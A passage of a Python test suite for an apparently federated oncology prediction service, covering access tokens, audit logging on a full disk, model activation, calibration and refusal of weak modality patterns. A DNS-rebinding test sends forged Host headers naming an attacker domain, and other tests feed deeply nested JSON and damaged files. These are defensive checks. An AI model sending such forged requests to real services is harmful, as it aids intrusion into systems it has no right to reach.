        assert 'oncofed_serve_queue_patients{queue="predictions"} 0.0' in r.text
    for method, path in (("post", "/v1/predict"), ("get", "/v1/model"), ("get", "/v1/models")):
        assert getattr(c, method)(path, headers=_auth(monitoring)).status_code == 403  # a scraper's token does no more
    assert c.get("/health").json() == {"status": "ok", "model_version": "v0002"}


def test_a_foreign_host_header_is_refused_and_the_proxys_name_is_served(site, tmp_path):
    """DNS rebinding: a page on another site, its name pointed at 127.0.0.1, reaches the service from a browser
    but sends its own name as Host. Only this machine's names, the bound address and --allowed-host are served."""
    import httpx

    _copy_site(site, tmp_path)
    with _serving_process(tmp_path / "site.json", "--allowed-host", "OncoFed.Hospital.example") as live:
        port = live["url"].rsplit(":", 1)[1]

        def get(host: str, path: str = "/health"):
            return httpx.get(live["url"] + path, headers={"Host": host, **_auth(site["admin"])}, timeout=10)

        for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", "oncofed.hospital.example"):
            assert get(host).status_code == 200, host
        for host in (f"rebound.attacker.example:{port}", "127.0.0.1.attacker.example", "", f"[::2]:{port}"):
            r = get(host, "/metrics")
            assert r.status_code == 400 and "--allowed-host" in r.json()["detail"], (host, r.text)
    r = subprocess.run([sys.executable, "-m", "oncofed", "serve", "--site-config", str(tmp_path / "site.json"),
                        "--allowed-host", "https://oncofed.hospital.example"], capture_output=True, text=True)
    assert r.returncode == 2 and "without scheme or port" in r.stderr and "Traceback" not in r.stderr, r.stderr


def _disk_full_at(monkeypatch, file: str) -> None:
    """From now on the audit log's fsync of `file` ("log" or "head") fails as on a full disk."""
    import errno

    from privacy.audit import AuditLog

    real = AuditLog._fsync

    def fsync(self, fd, what):
        if what == file:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, fd, what)

    monkeypatch.setattr(AuditLog, "_fsync", fsync)


def test_a_full_disk_under_the_audit_log_is_a_503_naming_it_and_a_401_stays_a_401(site, tmp_path, monkeypatch):
    from fastapi.testclient import TestClient

    settings = _copy_site(site, tmp_path)
    c = TestClient(create_app(settings))
    body = {"patients": [_patient(site, 0)], "top_k": 0}
    assert c.post("/v1/predict", json=body, headers=_auth(site["clinician"])).status_code == 200
    _disk_full_at(monkeypatch, "log")
    for top_k in (0, 3):  # the model's queue, the explanation lane
        r = c.post("/v1/predict", json={**body, "top_k": top_k}, headers=_auth(site["clinician"]))
        assert r.status_code == 503, r.text
        detail = r.json()["detail"]
        assert str(tmp_path / "state" / "audit.jsonl") in detail and "free space" in detail, detail
    assert c.get("/v1/model", headers=_auth("ofd_guess")).status_code == 401  # not a 500: the refusal stands
    monkeypatch.undo()  # space freed: the refusal's entry comes with the next write
    assert c.post("/v1/predict", json=body, headers=_auth(site["clinician"])).status_code == 200
    entries = [json.loads(x) for x in (tmp_path / "state" / "audit.jsonl").read_text().splitlines()]
    assert [(e["event"], e.get("count")) for e in entries] == [("prediction", None), ("login_failed", 1),
                                                               ("prediction", None)]
    assert verify(tmp_path / "state" / "audit.jsonl").ok


def test_an_activation_whose_audit_head_cannot_be_written_changes_nothing_and_leaves_no_entry(site, tmp_path,
                                                                                              monkeypatch):
    """The line was fsynced before the head write failed: the service answered 503 "nothing changed" while the log
    recorded a switch that never happened."""
    from fastapi.testclient import TestClient

    settings = _copy_site(site, tmp_path)
    c = TestClient(create_app(settings))
    assert c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0},
                  headers=_auth(site["clinician"])).status_code == 200
    _disk_full_at(monkeypatch, "head")
    r = c.post("/v1/models/activate", json={"version": "v0001"}, headers=_auth(site["admin"]))
    assert r.status_code == 503 and "nothing changed" in r.json()["detail"], r.text
    assert str(tmp_path / "state" / "audit.jsonl") in r.json()["detail"] and "free space" in r.json()["detail"]
    monkeypatch.undo()
    assert ModelStore(tmp_path / "models").active() == "v0002"
    log = tmp_path / "state" / "audit.jsonl"
    assert "model_activated" not in log.read_text()
    c.app.state.site.write_head()
    report = verify(log)
    assert report.ok and not report.warnings and report.entries == 1, report.format()


def test_an_activation_whose_active_file_cannot_be_written_says_so_in_the_audit_log(site, tmp_path, monkeypatch):
    """The switch is recorded before the ACTIVE file is written; when that write fails (a full disk under the model
    directory) the log held a `model_activated` that never happened. Now the next entry says it failed."""
    import errno

    from fastapi.testclient import TestClient

    import client.model_store

    settings = _copy_site(site, tmp_path)
    c = TestClient(create_app(settings))

    def full(path, text):
        raise OSError(errno.ENOSPC, "No space left on device", str(path))
    monkeypatch.setattr(client.model_store, "write_text_atomic", full)
    r = c.post("/v1/models/activate", json={"version": "v0001"}, headers=_auth(site["admin"]))
    assert r.status_code == 503 and "nothing changed" in r.json()["detail"], r.text
    monkeypatch.undo()
    assert ModelStore(tmp_path / "models").active() == "v0002"
    c.app.state.site.write_head()
    entries = [json.loads(line) for line in (tmp_path / "state" / "audit.jsonl").read_text().splitlines()]
    assert [e["event"] for e in entries[-2:]] == ["model_activated", "model_activation_failed"], entries[-2:]
    assert entries[-1]["version"] == "v0001" and entries[-1]["active"] == "v0002" and "No space" in entries[-1]["reason"]
    assert verify(tmp_path / "state" / "audit.jsonl").ok


def test_token_list_and_replace(site, tmp_path):
    from typer.testing import CliRunner

    from oncofed.cli import app

    _copy_site(site, tmp_path)
    cfg = ["--site-config", str(tmp_path / "site.json")]

    def oncofed(*args):
        r = CliRunner().invoke(app, ["serve", "token", *args, *cfg])
        return types.SimpleNamespace(returncode=r.exit_code, stdout=r.output, stderr=r.output)

    listed = oncofed("list")
    assert listed.returncode == 0 and "dr" in listed.stdout and "clinician" in listed.stdout
    assert "sha256" not in listed.stdout and site["clinician"] not in listed.stdout
    again = oncofed("add", "--name", "dr")
    assert again.returncode == 2 and "--replace" in again.stderr
    replaced = oncofed("add", "--name", "dr", "--replace")
    assert replaced.returncode == 0 and replaced.stdout.strip().startswith("ofd_")


def test_api_docs_are_off_by_default_and_offline_when_on(site, client):
    from fastapi.testclient import TestClient

    assert client.get("/docs").status_code == 404 and client.get("/openapi.json").status_code == 404
    docs = TestClient(create_app(_serving(site, {"api-docs": True}))).get("/docs")
    assert docs.status_code == 200 and "/v1/predict" in docs.text and "http" not in docs.text.replace(
        "http-equiv", "")


def test_a_bad_serve_setting_names_the_key(site):
    with pytest.raises(ValueError, match="serve.min-coverage"):
        create_app(_serving(site, {"min-coverage": 2}))


def test_simulate_writes_a_site_json_that_serve_starts_from(site, tmp_path):
    from fastapi.testclient import TestClient

    from simulations.cli_simulate import write_site_configs

    state_root = tmp_path / "state"
    shutil.copytree(site["root"] / "models", state_root / "C0" / "models")
    shutil.copytree(site["root"] / "state", state_root / "C0" / "state")
    manifest = {"sites": [{"name": "C0", "dir": "C0"}]}
    (path,) = write_site_configs(tmp_path, tmp_path / "sites", manifest, {"site-state-root": str(state_root),
                                                                         "epsilon": 8.0})
    settings = SiteConfig.load(path)
    assert settings.site_name == "C0" and settings.data_path == str(tmp_path / "sites" / "C0")
    c = TestClient(create_app(settings))
    assert c.get("/health").json()["status"] == "ok"


def test_calibration_is_fitted_at_the_site_and_checked_on_held_out_patients(site, tmp_path):
    from fastapi.testclient import TestClient
    from typer.testing import CliRunner

    from oncofed.cli import app

    settings = _copy_site(site, tmp_path)
    data = tmp_path / "labelled"
    shutil.copytree(site["data"], data)
    classes = site["schema"].classes

    def labels(wrong_every: int, n: int = N) -> None:
        # every `wrong_every`-th patient labelled as the next class: patients the model gets wrong, as a real site has
        pd.DataFrame({"patient": [f"P{i:03d}" for i in range(n)], site["schema"].label_column:
                      [classes[(int(v) + bool(wrong_every and i % wrong_every == 0)) % len(classes)]
                       for i, v in enumerate(site["y"][:n])]}
                     ).to_csv(data / "labels.csv", index=False)

    def calibrate():
        return CliRunner().invoke(app, ["serve", "calibrate", "--site-config", str(tmp_path / "site.json"), "--data",
                                        str(data)])

    # a review: on patients the model nearly always gets right the fit ran to its floor (T 0.05, every logit x18),
    # and answers at chance on patients missing a modality came out at 99%, "calibrated": refused, nothing written
    labels(wrong_every=0)
    r = calibrate()
    assert r.exit_code == 2 and "at the sharp end of what the fit searches" in r.output, r.output
    labels(wrong_every=5, n=80)
    r = calibrate()
    assert r.exit_code == 2 and "calibration needs at least 100" in r.output, r.output
    assert not (tmp_path / "state" / "calibration.json").exists()
    labels(wrong_every=5)
    before = TestClient(create_app(settings)).post("/v1/predict", json={"patients": [_patient(site, 9)], "top_k": 0},
                                                   headers=_auth(site["clinician"])).json()
    assert before["calibrated"] is False
    r = calibrate()
    assert r.exit_code == 0, r.output
    cal = json.loads((tmp_path / "state" / "calibration.json").read_text())
    assert cal["n_fit"] + cal["n_heldout"] == N and abs(cal["n_fit"] - cal["n_heldout"]) <= len(classes)
    assert cal["heldout"]["ece_after"] <= cal["heldout"]["ece_before"] and "ECE" in r.output
    c = TestClient(create_app(settings))
    after = c.post("/v1/predict", json={"patients": [_patient(site, 9)], "top_k": 0},
                   headers=_auth(site["clinician"])).json()
    assert after["calibrated"] is True
    assert after["predictions"][0]["predicted"] == before["predictions"][0]["predicted"]  # only the confidence moves
    assert after["predictions"][0]["probabilities"] != before["predictions"][0]["probabilities"]
    info = c.get("/v1/model", headers=_auth(site["clinician"])).json()
    assert info["calibration"]["temperature"] == cal["temperature"]
    # a temperature no fit gives (edited by hand, damaged: 1e-39 would make every answer certain) is not served
    (tmp_path / "state" / "calibration.json").write_text(json.dumps({**cal, "temperature": 1e-39}))
    edited = TestClient(create_app(settings)).post("/v1/predict", json={"patients": [_patient(site, 9)], "top_k": 0},
                                                   headers=_auth(site["clinician"])).json()
    assert edited["calibrated"] is False and edited["predictions"][0]["probabilities"] == \
        before["predictions"][0]["probabilities"]


def test_calibration_names_a_labels_table_it_cannot_read_and_labels_of_no_class(site, tmp_path):
    """A labels table without the schema's label column gave a KeyError traceback; labels written another way ('brca'
    for 'BRCA') were dropped without a word; labels of a type the schema does not know are left out and counted; a
    patient labelled twice was dropped without a word."""
    from typer.testing import CliRunner

    from oncofed.cli import app

    _copy_site(site, tmp_path)
    data = tmp_path / "labelled"
    _labelled(site, data)
    table = pd.read_csv(data / "labels.csv", dtype=str)
    label = site["schema"].label_column

    def calibrate():
        return CliRunner().invoke(app, ["serve", "calibrate", "--site-config", str(tmp_path / "site.json"), "--data",
                                        str(data)])

    table.rename(columns={label: "diagnosis"}).to_csv(data / "labels.csv", index=False)
    r = calibrate()
    assert r.exit_code == 2 and f"no column {label!r}, the schema's label column" in r.output, r.output
    cased = table.copy()
    cased.loc[:4, label] = cased.loc[:4, label].str.swapcase()  # 'brca' for 'BRCA'
    cased.to_csv(data / "labels.csv", index=False)
    r = calibrate()
    wrong = cased.loc[0, label]
    assert r.exit_code == 2 and "are none of the schema's classes" in r.output, r.output
    assert f"'{wrong}' for '{wrong.swapcase()}'" in r.output, r.output
    other = table.copy()
    other.loc[:2, label] = "SARC-X"  # a type the consortium does not cover: left out, counted
    other.loc[3:4, label] = "NA"  # a missing label: left out, not counted as a type
    other.to_csv(data / "labels.csv", index=False)
    r = calibrate()
    assert r.exit_code == 0 and "labels of no class of the schema: SARC-X (3)\n" in r.output, r.output
    twice = pd.concat([table, table.iloc[[7]].assign(**{label: table.loc[8, label]})])  # P007 with a second label
    twice.to_csv(data / "labels.csv", index=False)
    r = calibrate()  # both rows were dropped without a word (validate refuses them)
    assert r.exit_code == 2 and "1 patient id(s) appear more than once ('P007')" in r.output, r.output


def _labelled(site, data, wrong_every: int = 5, n: int = N) -> None:
    """The site's tables with labels.csv: every `wrong_every`-th patient labelled as the next class (patients the
    model gets wrong, as a real site has)."""
    classes = site["schema"].classes
    if not data.exists():
        shutil.copytree(site["data"], data)
    pd.DataFrame({"patient": [f"P{i:03d}" for i in range(n)], site["schema"].label_column:
                  [classes[(int(v) + bool(wrong_every and i % wrong_every == 0)) % len(classes)]
                   for i, v in enumerate(site["y"][:n])]}).to_csv(data / "labels.csv", index=False)


def test_calibration_measures_each_modality_pattern_serves_its_temperature_and_flags_the_weak_ones(site, tmp_path):
    """expr decides the class: a patient without it gets an answer from the other modalities, which the site's
    calibration measures near chance. The review's gap: such a patient got a confident answer with no warning."""
    import itertools

    from fastapi.testclient import TestClient
    from typer.testing import CliRunner

    from client.calibration import PATTERN_MIN_HALF, pattern_key
    from client.predict import Predictor
    from oncofed.cli import app

    settings = _copy_site(site, tmp_path)
    data = tmp_path / "labelled"
    _labelled(site, data)
    c = TestClient(create_app(settings))  # running before the calibration: it serves it from the next request
    patients = [_patient(site, 9), _patient(site, 10, drop=("expr",)), _patient(site, 11, drop=("expr", "prot"))]
    partial = _patient(site, 12)  # 1 of expr's 30 features: the model sees expr, the pattern does not count it
    partial["modalities"]["expr"] = {"g0": partial["modalities"]["expr"]["g0"]}

    def ask(top_k: int = 0) -> dict:
        return c.post("/v1/predict", json={"patients": patients + [partial], "top_k": top_k},
                      headers=_auth(site["clinician"])).json()

    assert ask()["calibrated"] is False and ask(top_k=1)["calibrated"] is False  # the explanation process too
    r = CliRunner().invoke(app, ["serve", "calibrate", "--site-config", str(tmp_path / "site.json"), "--data", str(data)])
    assert r.exit_code == 0, r.output
    assert "does not say which" in r.output  # no split.json with this version
    weak_rows = [line for line in r.output.splitlines() if line.endswith("  weak")]
    assert weak_rows and all("expr" not in line.split()[0] for line in weak_rows), r.output
    cal = json.loads((tmp_path / "state" / "calibration.json").read_text())
    names = [m.name for m in site["schema"].modalities]
    every = {pattern_key(c) for k in range(1, 5) for c in itertools.combinations(names, k)}
    assert set(cal["patterns"]) == every  # every patient has every modality: all 15 measured
    for key, e in cal["patterns"].items():
        assert e["n_fit"] >= PATTERN_MIN_HALF and e["n_heldout"] >= PATTERN_MIN_HALF
        assert (e["accuracy"] >= 0.7) if "expr" in e["modalities"] else (e["accuracy"] < 0.5), (key, e)

    for top_k in (1, 0):  # the explanation process and the service itself, both as calibrated now
        body = ask(top_k)
        assert body["calibrated"] is True, body
        rows = body["predictions"]
        assert rows[3]["modalities_present"] == names and "expr" not in rows[3]["pattern"]["modalities"]
        assert "weak_pattern" in [w["code"] for w in rows[3]["warnings"]], rows[3]
    rows = rows[:3]
    # a pattern the model is at chance on fits a flat temperature (the search's flat end is no risk), and is served so
    flat = [e["temperature"] for e in cal["patterns"].values() if "expr" not in e["modalities"]]
    assert all(t is not None and t > 5 for t in flat), flat
    info = c.get("/v1/model", headers=_auth(site["clinician"])).json()
    assert info["calibration"]["patterns"] == cal["patterns"] and info["min_pattern_accuracy"] == 0.5
    codes = [[w["code"] for w in row["warnings"]] for row in rows]
    assert "weak_pattern" not in codes[0] and rows[0]["pattern"]["site_accuracy"] >= 0.7
    for row, code in zip(rows[1:], codes[1:]):
        assert "weak_pattern" in code and row["pattern"]["site_accuracy"] < 0.5, row
        assert "right for" in next(w["msg"] for w in row["warnings"] if w["code"] == "weak_pattern")
    # each answer's logits are divided by its own pattern's temperature (or the overall one where its fit was refused)
    lm = Predictor(settings.model_dir, tmp_path / "state" / "normalizer.json",
                   calibration_path=tmp_path / "state" / "calibration.none").current
    x = site["x"][[9, 10, 11]].clone()
    layout = site["schema"].layout()
    x[1, layout.slices["expr"]] = float("nan")
    x[2, layout.slices["expr"]] = x[2, layout.slices["prot"]] = float("nan")
    with torch.no_grad():
        logits = lm.model(x)
    for i, row in enumerate(rows):
        t = cal["patterns"][pattern_key(row["modalities_present"])]["temperature"] or cal["temperature"]
        want = torch.softmax(logits[i] / t, 0).numpy()
        assert np.allclose([row["probabilities"][k] for k in site["schema"].classes], want, atol=2e-6)

    # the batch CLI flags the same answers, from the same function
    out = tmp_path / "pred.csv"
    no_expr = tmp_path / "no_expr"
    shutil.copytree(data, no_expr)
    (no_expr / "expr.csv").unlink()
    r = CliRunner().invoke(app, ["predict", "--site-config", str(tmp_path / "site.json"), "--data", str(no_expr),
                                 "--out", str(out)])
    assert r.exit_code == 0, r.output
    assert pd.read_csv(out)["warnings"].fillna("").str.contains("weak_pattern").all()

    # a pattern the site had too few patients with is judged by its best measured sub-pattern; with none, it is
    # said to be unmeasured; a pattern entry no fit writes is not served
    path = tmp_path / "state" / "calibration.json"
    subs = {k: e for k, e in cal["patterns"].items()
            if set(e["modalities"]) < {"prot", "clinical", "mutation"}}  # the proper sub-patterns
    best = max(subs.values(), key=lambda e: e["accuracy"])
    for kept, codes_want in ((subs, []), ({}, ["pattern_unmeasured"])):
        patterns = {k: e for k, e in cal["patterns"].items()
                    if k != "prot+clinical+mutation" and (k not in subs or kept)}
        path.write_text(json.dumps({**cal, "patterns": patterns}))
        row = TestClient(create_app(settings)).post("/v1/predict", json={"patients": [patients[1]], "top_k": 0},
                                                    headers=_auth(site["clinician"])).json()["predictions"][0]
        codes = [w["code"] for w in row["warnings"] if w["code"] != "low_confidence"]
        if kept:
            assert codes == ["weak_pattern"] and row["pattern"]["site_accuracy"] == best["accuracy"]
            assert row["pattern"]["measured_as"] == best["modalities"], row
        else:
            assert codes == codes_want and "site_accuracy" not in row["pattern"]
    expr = cal["patterns"]["expr"]
    for damaged in ({**expr, "temperature": 1e-39}, {k: v for k, v in expr.items() if k != "modalities"},
                    {k: v for k, v in expr.items() if k != "n_heldout"}, {**expr, "modalities": "expr"},
                    {**expr, "accuracy": True}, {**expr, "modalities": ["prot"]}):
        path.write_text(json.dumps({**cal, "patterns": {**cal["patterns"], "expr": damaged}}))
        r = TestClient(create_app(settings)).post("/v1/predict", json={"patients": patients, "top_k": 0},
                                                  headers=_auth(site["clinician"]))
        assert r.status_code == 200 and r.json()["calibrated"] is False, (damaged, r.text)  # served uncalibrated


def test_a_site_that_refuses_weak_patterns_answers_none_of_them_on_any_path(site, tmp_path):
    """serve.refuse-weak-pattern: a request with a patient whose modality pattern the site measured weak is refused
    (422, the pattern and its patients named, the fix given), through the service, the explanation lane, uploads and
    `oncofed predict`; the other patients are answered; before the site has calibrated nothing is refused."""
    from fastapi.testclient import TestClient
    from typer.testing import CliRunner

    from oncofed.cli import app

    _copy_site(site, tmp_path)
    settings = SiteConfig.parse({"model-dir": str(tmp_path / "models"), "state-dir": str(tmp_path / "state"),
                                 "simulated": True, "serve": {"refuse-weak-pattern": True}})
    settings.write(tmp_path / "site.json")
    data = tmp_path / "labelled"
    _labelled(site, data)
    c = TestClient(create_app(settings))
    full, no_expr = _patient(site, 9), _patient(site, 10, drop=("expr",))

    def ask(patients, top_k: int = 0):
        return c.post("/v1/predict", json={"patients": patients, "top_k": top_k}, headers=_auth(site["clinician"]))

    r = ask([full, no_expr])  # not calibrated: nothing measured, nothing to refuse on
    assert r.status_code == 200 and len(r.json()["predictions"]) == 2
    assert c.get("/v1/limits").json()["refuse_weak_pattern"] is True
    r = CliRunner().invoke(app, ["serve", "calibrate", "--site-config", str(tmp_path / "site.json"), "--data", str(data)])
    assert r.exit_code == 0, r.output

    for top_k in (0, 1):  # the service, then the explanation lane
        r = ask([full, no_expr, _patient(site, 11, drop=("expr", "prot"))], top_k)
        assert r.status_code == 422 and _codes(r) == {"weak_pattern"}, r.text
        problems = r.json()["detail"]
        assert {tuple(p["patients"]) for p in problems} == {("P010",), ("P011",)}, problems  # one per pattern
        assert all(p["msg"].startswith("refused (serve.refuse-weak-pattern") and "right for" in p["msg"]
                   and "send the patients' other modalities" in p["fix"] for p in problems)
        ok = ask([full], top_k)
        assert ok.status_code == 200 and [w["code"] for w in ok.json()["predictions"][0]["warnings"]
                                          if w["code"] == "weak_pattern"] == [], (top_k, ok.text)
    # fewer features escape no refusal: a patient with no modality counted (none with half its features) is refused
    few = _patient(site, 12, drop=("expr", "prot", "clinical"))
    few["modalities"]["mutation"] = dict(list(few["modalities"]["mutation"].items())[:3])  # 3 of 8
    r = ask([full, few])
    assert r.status_code == 422 and _codes(r) == {"weak_pattern"} and "no modality of this patient" in r.text, r.text
    files = {f"{m}.csv": (data / f"{m}.csv").read_bytes() for m in ("prot", "clinical", "mutation")}
    r = _upload(c, site, files)
    assert r.status_code == 422 and _codes(r) == {"weak_pattern"}  # every patient named: a large request, a thread
    assert r.json()["detail"][0]["n_patients"] == N and len(r.json()["detail"][0]["patients"]) == N

    no_expr_dir = tmp_path / "no_expr"
    shutil.copytree(data, no_expr_dir)
    (no_expr_dir / "expr.csv").unlink()
    out = tmp_path / "pred.csv"
    r = CliRunner().invoke(app, ["predict", "--site-config", str(tmp_path / "site.json"), "--data", str(no_expr_dir),
                                 "--out", str(out)])
    assert r.exit_code == 2 and "refused, nothing predicted" in r.output and "refuse-weak-pattern" in r.output, r.output
    assert "patients: P000, P001" in r.output  # the operator is told which patients to take out
    assert not out.exists()
    r = CliRunner().invoke(app, ["predict", "--site-config", str(tmp_path / "site.json"), "--data", str(data),
                                 "--out", str(out)])
    assert r.exit_code == 0 and len(pd.read_csv(out)) == N, r.output


def test_the_consortiums_measurement_of_each_pattern_travels_with_the_package_and_flags_until_the_site_calibrates(
        site, tmp_path):
    """Each site measures the final model per modality pattern on its held-out part (client.calibration.
    pattern_outcomes), the server sums them (server.strategy.summed_patterns) into the signed package
    (protocol.consortium_patterns), and a site that has not calibrated flags and refuses answers by it, saying
    whose measurement it is; its own calibration, once run, takes over. A package entry no server writes is
    not served."""
    from fastapi.testclient import TestClient
    from typer.testing import CliRunner

    from client.calibration import consortium_patterns, pattern_outcomes
    from client.predict import Predictor
    from oncofed.cli import app
    from server.strategy import summed_patterns
    from shared_models.protocol import CONSORTIUM_PATTERN_MIN
    from shared_models.protocol import consortium_patterns as package_patterns

    settings = _copy_site(site, tmp_path)
    schema = site["schema"]
    model = Predictor(settings.model_dir, tmp_path / "state" / "normalizer.json").current.model
    x, y = site["x"].numpy(), site["y"].numpy()
    thirds = np.array_split(np.arange(N), 3)  # three sites' held-out parts
    sent = [(k, json.dumps(pattern_outcomes(model, schema, x[i], y[i], min_count=5)), len(i))
            for k, i in enumerate(thirds)]
    bad = [(7, None, 9), (8, "not json", 9), (9, json.dumps({"expr": [3, 4]}), 9), (10, "[" * 100_000, 9),
           (11, json.dumps({"expr": [10**12, 10**12]}), 9), (12, json.dumps({"expr": [0, 0]}), 9)]
    summed = summed_patterns(sent + bad)  # a site's measurement that is not one is left out whole, the run goes on
    whole = pattern_outcomes(model, schema, x, y, min_count=5)
    assert {k: [e["n"], e["right"]] for k, e in summed.items()} == whole and all(e["sites"] == 3 for e in summed.values())
    names = [m.name for m in schema.modalities]
    patterns = package_patterns(summed, names)
    assert set(patterns) == set(whole) and all(e["n_heldout"] >= CONSORTIUM_PATTERN_MIN for e in patterns.values())
    # a key that is not one of the schema's patterns is dropped alone; nor are two sites' sums passed on
    odd = summed_patterns(sent + [(13, json.dumps({"prot+expr": [30, 0], "zzz": [30, 0]}), 40),
                                  (14, json.dumps({"prot+expr": [30, 0]}), 40)])
    assert package_patterns(odd, names) == patterns
    assert package_patterns(summed_patterns(sent[:2]), names) == {}
    assert all((e["accuracy"] >= 0.7) == ("expr" in e["modalities"]) for e in patterns.values()), patterns
    ModelStore(tmp_path / "models").install(schema, ModelConfig(d_model=32), state_arrays(model), {
        "run": "run-c", "round": 3, "metrics": {}, "patterns": patterns})

    c = TestClient(create_app(settings))
    full, no_expr = _patient(site, 9), _patient(site, 10, drop=("expr",))
    rows = c.post("/v1/predict", json={"patients": [full, no_expr], "top_k": 0},
                  headers=_auth(site["clinician"])).json()["predictions"]
    assert "weak_pattern" not in [w["code"] for w in rows[0]["warnings"]]
    assert rows[0]["pattern"]["measured_by"] == "consortium" and rows[0]["pattern"]["consortium_accuracy"] >= 0.7
    weak = next(w["msg"] for w in rows[1]["warnings"] if w["code"] == "weak_pattern")
    assert "at 3 sites of the consortium" in weak and "serve calibrate" in weak, weak
    assert rows[1]["pattern"]["consortium_accuracy"] < 0.5 and "site_accuracy" not in rows[1]["pattern"]
    info = c.get("/v1/model", headers=_auth(site["clinician"])).json()
    assert info["calibration"] is None and info["consortium_patterns"] == consortium_patterns({"patterns": patterns},
                                                                                              schema)
    strict = TestClient(create_app(SiteConfig.parse({"model-dir": str(tmp_path / "models"), "state-dir": str(
        tmp_path / "state"), "simulated": True, "serve": {"refuse-weak-pattern": True}})))
    r = strict.post("/v1/predict", json={"patients": [full, no_expr], "top_k": 0}, headers=_auth(site["clinician"]))
    assert r.status_code == 422 and _codes(r) == {"weak_pattern"} and "consortium" in r.text

    data = tmp_path / "labelled"
    _labelled(site, data)
    r = CliRunner().invoke(app, ["serve", "calibrate", "--site-config", str(tmp_path / "site.json"), "--data", str(data)])
    assert r.exit_code == 0, r.output
    lines = r.output.splitlines()  # each pattern beside the package's measurement of it
    assert next(line for line in lines if "modalities present" in line).rstrip().endswith("consortium")
    assert float(next(line for line in lines if line.split()[:1] == ["expr"]).split()[-1]) == patterns["expr"]["accuracy"]
    row = c.post("/v1/predict", json={"patients": [no_expr], "top_k": 0},
                 headers=_auth(site["clinician"])).json()["predictions"][0]
    assert "measured_by" not in row["pattern"] and row["pattern"]["site_accuracy"] < 0.5  # the site's own now
    path = tmp_path / "state" / "calibration.json"  # a pattern the site did not measure: still the consortium's
    cal = json.loads(path.read_text())
    path.write_text(json.dumps({**cal, "patterns": {k: e for k, e in cal["patterns"].items()
                                                    if k != "prot+clinical+mutation"}}))
    row = c.post("/v1/predict", json={"patients": [no_expr], "top_k": 0},
                 headers=_auth(site["clinician"])).json()["predictions"][0]
    assert row["pattern"]["measured_by"] == "consortium" and "weak_pattern" in [w["code"] for w in row["warnings"]]

    served = consortium_patterns({"patterns": patterns}, schema)
    for damaged in ({**patterns["expr"], "accuracy": 2.0}, {**patterns["expr"], "modalities": ["prot"]},
                    {k: v for k, v in patterns["expr"].items() if k != "sites"}):  # left out alone
        assert consortium_patterns({"patterns": {**patterns, "expr": damaged}}, schema) == \
            {k: e for k, e in served.items() if k != "expr"}
    assert consortium_patterns({}, schema) == {} and consortium_patterns({"patterns": []}, schema) == {}


def test_a_site_sends_no_pattern_count_that_differs_from_another_it_sends_by_fewer_than_min_count():
    """client.calibration._reportable: n(expr) = 50 beside n(expr+prot) = 49 would say that one held-out patient has
    expr without prot; the larger pattern of such a pair is not sent, nor one within min-count of all patients."""
    from client.calibration import _reportable

    counts = {(0,): 50, (1,): 80, (0, 1): 49, (2,): 98, (0, 2): 40, (1, 2): 79, (0, 1, 2): 39, (3,): 4}
    kept = _reportable(counts, total=100, min_count=5)
    assert (3,) not in kept and (2,) not in kept  # 4 patients; 100 - 98 = 2 lack modality 2
    assert (0, 1) not in kept and (1, 2) not in kept  # 50 - 49 and 80 - 79
    assert (0, 1, 2) not in kept  # 40 - 39 beside (0, 2), which is sent
    assert set(kept) == {(0,), (1,), (0, 2)}



def test_an_overall_temperature_without_gain_keeps_the_models_probabilities_and_still_measures_the_patterns(
        site, tmp_path, monkeypatch):
    """A fitted temperature that does not lower the held-out half's log-loss is not served (T stays 1), but the
    patterns are still measured and flagged: before, the whole calibration was refused and nothing flagged a
    patient without the modality the model relies on."""
    import client.calibration as calibration

    settings = _copy_site(site, tmp_path)
    data = tmp_path / "labelled"
    _labelled(site, data)
    fits = iter([0.2])  # the overall fit: a temperature that sharpens answers a fifth of which are wrong (log-loss up)
    real = calibration.fit_temperature
    monkeypatch.setattr(calibration, "fit_temperature", lambda lg, y: next(fits, None) or real(lg, y))
    cal = calibration.calibrate(settings, data)
    assert cal["temperature"] == 1.0 and "does not lower" in cal["overall_not_fitted"]
    assert any(e["accuracy"] < 0.5 for e in cal["patterns"].values())
    assert any(e["temperature"] is not None for e in cal["patterns"].values())


def test_calibration_leaves_out_the_patients_the_models_run_trained_on(site, tmp_path):
    from typer.testing import CliRunner

    from client.calibration import could_have_trained
    from client.model_store import SPLIT
    from oncofed.cli import app

    _copy_site(site, tmp_path)
    store = ModelStore(tmp_path / "models")
    (store.root / store.active() / SPLIT).write_text(json.dumps({"seed": 3, "val_fraction": 0.5}))
    data = tmp_path / "labelled"
    _labelled(site, data)
    ids = [f"P{i:03d}" for i in range(N)]
    trained = could_have_trained(store.root / store.active(), ids)
    assert 0.4 * N < trained.sum() < 0.6 * N
    r = CliRunner().invoke(app, ["serve", "calibrate", "--site-config", str(tmp_path / "site.json"), "--data", str(data)])
    assert r.exit_code == 0, r.output
    cal = json.loads((tmp_path / "state" / "calibration.json").read_text())
    assert cal["left_out_trained"] == trained.sum() and cal["n_fit"] + cal["n_heldout"] == N - trained.sum()
    assert f"left out: {trained.sum()} patients" in r.output
    # per type: the patients left and the share the model names right; a type it never names is listed
    assert sum(e["n"] for e in cal["types"].values()) == N - trained.sum()
    assert set(cal["types"]) == set(site["schema"].classes) and all(e["recall"] > 0.5 for e in cal["types"].values())
    assert "types the model named right for none" not in r.output
    # too few left: refused, naming the patients left out
    (store.root / store.active() / SPLIT).write_text(json.dumps({"seed": 3, "val_fraction": 0.1}))
    r = CliRunner().invoke(app, ["serve", "calibrate", "--site-config", str(tmp_path / "site.json"), "--data", str(data)])
    assert r.exit_code == 2 and "in the training part of the run" in r.output, r.output


def test_the_depth_of_a_parsed_request_is_the_depth_of_its_bytes():
    # a body of few enough brackets has its depth read from orjson's result (cheaper than scanning its bytes)
    import orjson

    from client.prediction_input import json_depth, object_depth

    for body in (b"1", b'"x"', b"[]", b"{}", b"[1,[2,[3]]]", b'{"a":{"b":[{"c":1}]}}', b'{"a":"[[[[["}',
                 b'{"p":[' + b"[" * 5000 + b"]" * 5000 + b"]}"):
        assert object_depth(orjson.loads(body)) == json_depth(body)


def test_integrated_gradients_in_chunks_are_those_of_one_batch(site, monkeypatch):
    import client.predict
    from client.predict import Predictor, integrated_gradients

    lm = Predictor(site["settings"].model_dir, site["root"] / "state" / "normalizer.json").current
    x = site["x"][:10].clone()
    x[::3, lm.model.slices[0]] = float("nan")
    target = torch.arange(10) % len(lm.schema.classes)
    whole = integrated_gradients(lm, x, target)
